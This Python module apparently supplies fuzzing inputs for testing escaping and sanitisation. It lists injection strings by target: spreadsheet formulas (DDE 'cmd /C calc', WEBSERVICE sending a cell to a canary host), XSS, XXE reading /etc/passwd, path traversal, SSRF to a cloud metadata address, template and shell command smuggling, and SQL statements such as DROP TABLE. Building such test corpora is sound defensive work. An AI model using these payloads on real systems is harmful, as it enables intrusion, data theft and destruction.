"""Text that means something to a spreadsheet, a browser, a shell, a database or a file system, by kind."""

from __future__ import annotations

HOST = "canary.invalid"
_SHEET = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1+1",
    "－1+1", "＠SUM(A1)", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", '=HYPERLINK("http://canary.invalid","x")',
    '=WEBSERVICE("http://canary.invalid/"&A1)', "=IMPORTXML(\"http://canary.invalid\",\"//a\")", "{=1+1}", "'=1+1",
    '"=1+1"', "=SUM(1)*cmd|' /C calc'!A1", "-2+3+cmd|' /C calc'!D2", "@canary", "=\u200b1+1", "\u202e=1+1", "\ufeff=1+1",
    ";=1+1", ",=1+1", "a,=1+1", 'a","=1+1', "a\n=1+1", "\x00=1+1", "=RTD(\"canary\")", "=INDIRECT(\"A1\")",
    "=IMAGE(\"http://canary.invalid/a.png\")", "=FILTERXML(\"<a/>\",\"//a\")", "=CALL(\"kernel32\",\"WinExec\")",
    "%0A=1+1", "=Sheet1!A1", "+Headline!A1", "=-1", "@@", "==", "+", "-", "=",
]  # fmt: skip
_PAGE = [
    "<script>canary(1)</script>", "<img src=x onerror=canary(1)>", "<svg onload=canary(1)>", "</title><script>canary(1)</script>",
    "\"><script>canary(1)</script>", "'><img src=x onerror=canary(1)>", "<iframe src=//canary.invalid></iframe>",
    "<a href=javascript:canary(1)>x</a>", "<math><mtext><canary>", "</style><script>canary(1)</script>", "</svg><script>canary(1)</script>",
    "--><script>canary(1)</script>", "]]><script>canary(1)</script>", "</script><script>canary(1)</script>",
    "<object data=//canary.invalid></object>", "<base href=//canary.invalid>", "<meta http-equiv=refresh content=0;url=//canary.invalid>",
    "<link rel=stylesheet href=//canary.invalid>", "<form action=//canary.invalid><input name=a>", "<style>*{display:none}</style>",
    "<body onload=canary(1)>", "<details open ontoggle=canary(1)>", "<template><canary></template>", "&lt;script&gt;canary(1)&lt;/script&gt;",
    "&#60;script&#62;", "<scr\x00ipt>canary(1)</scr\x00ipt>", "\"onmouseover=canary(1) x=\"", "' onfocus=canary(1) autofocus '",
    "`onclick=canary(1)`", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "&b;", "<!ENTITY x>",
    "<![CDATA[<script>]]>", "<xlink:href='javascript:canary(1)'>", "<foreignObject><canary>", "javascript:canary(1)", "JaVaScRiPt:canary(1)",
    "data:text/html,<script>canary(1)</script>", "vbscript:canary", "java\tscript:canary(1)", "<canary data-a=1>", "<b>bold</b>",
    "</td></tr></table><canary>", "{\"a\":\"</script><script>canary(1)\"}", "\u2028canary()\u2029", "<plaintext>", "<noscript><p title=\"</noscript><img src=x onerror=canary(1)>\">",
]  # fmt: skip
_PATH = [
    "../../canary", "..", ".", "/", "/etc/passwd", "..\\..\\canary", "C:\\canary", "\\\\canary.invalid\\share", "....//....//canary",
    "%2e%2e%2fcanary", "..%c0%afcanary", "file:///etc/passwd", "~/canary", "$HOME/canary", "canary\x00.csv", "canary/../../../canary",
    "/tmp/canary-was-written", "con", "nul.csv", "a" * 300, "-rf", "--help", ".git/config", "latest/../../canary",
]  # fmt: skip
_ADDRESS = [
    f"http://{HOST}/", f"https://{HOST}/a?b=c", "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "http://[::1]/",
    f"//{HOST}/", f"ftp://{HOST}/", "gopher://127.0.0.1:6379/_", "http://0x7f000001/", f"http://a@{HOST}:80/", f"ldap://{HOST}/a",
]  # fmt: skip
_TYPESET = [
    '#read("/etc/passwd")', "#eval(\"1+1\")", '#include "/etc/passwd"', '#import "@preview/canary:0.1.0": *', '#image("/etc/passwd")',
    "#link(\"http://canary.invalid\")", "$ 1/0 $", "#panic()", "#let x = 1", "*bold* _it_ `raw`", "#while true {}", "]#panic()[", "\\#panic()",
    "@label <label>", "= Heading", "/* */ //", "#set page(width: 1pt)", "\"] #panic() [\"",
]  # fmt: skip
_TEMPLATE = [
    "{{ 7*7 }}", "{% raw %}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__}}", "%(a)s %s %n", "{0} {a}", "{#",
    "$(touch canary)", "`touch canary`", "; touch canary", "| touch canary", "&& touch canary", "$IFS",
]  # fmt: skip
_BASE = [
    "'; DROP TABLE forecasts; --", "' OR '1'='1", "\"; DELETE FROM forecasts; --", "1); DROP TABLE editions;--", "%' --", ":a %s ?", "\\'; --", "' UNION SELECT 1 --",
]  # fmt: skip
_LETTERS = [
    "\x1b[2J\x1b[31mcanary", "\x07\x08\x7f", "\u202egnihtyna", "a\u0301\u0327" * 20, "\U0001f600\U0001f9d1\u200d\U0001f52c", "\ud7ff\ue000\uffff",
    "क्षत्रिय", "ﷺ", "\u200b\u200c\u200d", "\x85\x0b\x0c", "\u2066a\u2069", "NaN", "null", "true", "1e999", "-0", "NO", "012", "1:30", "\\x00", "&amp;",
]  # fmt: skip

KINDS = {
    "spreadsheet": _SHEET, "page": _PAGE, "path": _PATH, "address": _ADDRESS, "typesetting": _TYPESET, "template": _TEMPLATE,
    "database": _BASE, "letters": _LETTERS,
}  # fmt: skip
ALL = [one for kind in KINDS.values() for one in kind]
